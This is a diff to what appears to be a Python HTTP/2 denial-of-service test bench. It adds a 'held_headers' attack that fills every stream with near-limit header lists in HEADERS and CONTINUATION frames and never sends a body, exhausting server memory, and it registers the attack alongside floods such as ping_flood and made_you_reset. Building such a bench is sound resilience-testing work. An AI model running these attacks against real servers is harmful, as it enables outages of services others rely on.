@@ -482,6 +482,36 @@ def _varint(n):
             return out + bytes([b])
 
 
+def held_headers(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES, streams=100,
+                 headers=2000):
+    """Requests whose metadata is just under the header list limit (2,000
+    headers of some 100 bytes, in HEADERS + CONTINUATION frames), on every
+    stream the limit allows, none ever sending its message: the core keeps
+    each decoded list until the message comes (65 MB a connection)."""
+    out = Outcome("held_headers")
+    c = Conn(port, out)
+    deadline = out.started + seconds
+    for i in range(streams):
+        s = 1 + 2 * i
+        enc = hpack.Encoder()
+        hdrs = [(":method", "POST"), (":scheme", "http"), (":path", GET),
+                (":authority", "127.0.0.1:%d" % port)]
+        hdrs += [hpack.NeverIndexedHeaderTuple(k, v) for k, v in
+                 (("content-type", "application/grpc"), ("te", "trailers"))]
+        hdrs += [hpack.NeverIndexedHeaderTuple("x-h%d" % k, "v" * 90) for k in range(headers)]
+        block = enc.encode(hdrs, huffman=False)
+        parts = [block[o:o + 16384] for o in range(0, len(block), 16384)]
+        data = frame(HEADERS, END_HEADERS if len(parts) == 1 else 0, s, parts[0])
+        for k, p in enumerate(parts[1:], 1):
+            data += frame(CONTINUATION, END_HEADERS if k == len(parts) - 1 else 0, s, p)
+        if not c.send(data, deadline):
+            break
+        out.streams += 1
+    while time.monotonic() < deadline and not c.closed:  # hold them
+        time.sleep(0.05)
+    return c, out
+
+
 def ping_flood(port, seconds=DEFAULT_SECONDS, max_bytes=DEFAULT_BYTES):
     """PINGs as fast as the socket takes them; the PONGs are never read."""
     out = Outcome("ping_flood")
@@ -705,7 +735,7 @@ ATTACKS = {
     "settings_flood": settings_flood, "slowloris": slowloris,
     "unacked_settings": unacked_settings, "made_you_reset": made_you_reset,
     "zip_bomb": zip_bomb, "goaway_flood": goaway_flood, "small_data": small_data,
-    "pending_data": pending_data,
+    "pending_data": pending_data, "held_headers": held_headers,
 }
 # Not in ATTACKS: stalled_replies, which needs a catalog of large products
 # (fill_catalog) that the bench's servers do not have.
